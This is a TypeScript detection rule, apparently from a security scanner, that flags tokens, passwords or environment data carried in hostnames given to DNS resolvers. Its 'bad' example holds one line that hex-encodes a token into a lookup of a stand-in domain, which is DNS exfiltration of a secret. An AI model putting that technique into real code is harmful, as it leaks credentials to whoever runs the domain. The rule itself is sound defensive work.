import { WHOLE_ENVIRONMENT } from '../../engine/expressions/environment.js';
import { argument } from '../../engine/expressions/call-arguments.js';
import { taintsWithin } from '../../engine/values/objects.js';
import { SanitizedFor } from '../../engine/values/taint.js';
import { byName } from '../../models/model.js';
import { sinkOf } from '../support/locations.js';
import { describeSecret, isSecret } from '../support/secrets.js';
import type { CallCheck, Rule } from '../rule.js';
import names from './names.json' with { type: 'json' };

const lookup =
  (index: number): CallCheck =>
  (event, report) => {
    const taint = taintsWithin(argument(event, index), event.frame, 3).find(
      (each) =>
        isSecret(each) ||
        (each.source.name === WHOLE_ENVIRONMENT && (each.sanitizedFor & SanitizedFor.SECRET) === 0),
    );
    if (!taint) return;
    report({
      at: event.frame,
      lines: event.node,
      sink: sinkOf(event),
      taint,
      description: `The name of a host that is looked up holds ${describeSecret(taint)}: whoever answers for the domain reads it.`,
    });
  };

/** A secret is carried out in the name of a host. */
export const secretInLookup: Rule = {
  id: 'MCP-F007',
  class: 'F',
  title: 'Secret in the name of a host that is looked up',
  severity: 'critical',
  confidence: 'high',
  cwe: 201,
  cvss: 'AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N',
  what: 'A token, password or key, or the environment, in the name that is given to a resolver of names.',
  why: 'Lookups leave networks from which no request may go out, and the name server of the domain logs each of them: no name of a host needs a secret.',
  example: {
    language: 'python',
    bad: 'socket.gethostbyname(token.encode().hex() + ".stats.example.com")',
    good: 'socket.gethostbyname("stats.example.com")',
  },
  fix: 'Remove the lookup, and replace the secrets that it has carried out.',
  notCounted: ['names of configured hosts', 'digests and lengths of secrets'],
  calls: {
    ...byName(names.nameLookups.first, lookup(0)),
    ...byName(names.nameLookups.second, lookup(1)),
  },
};
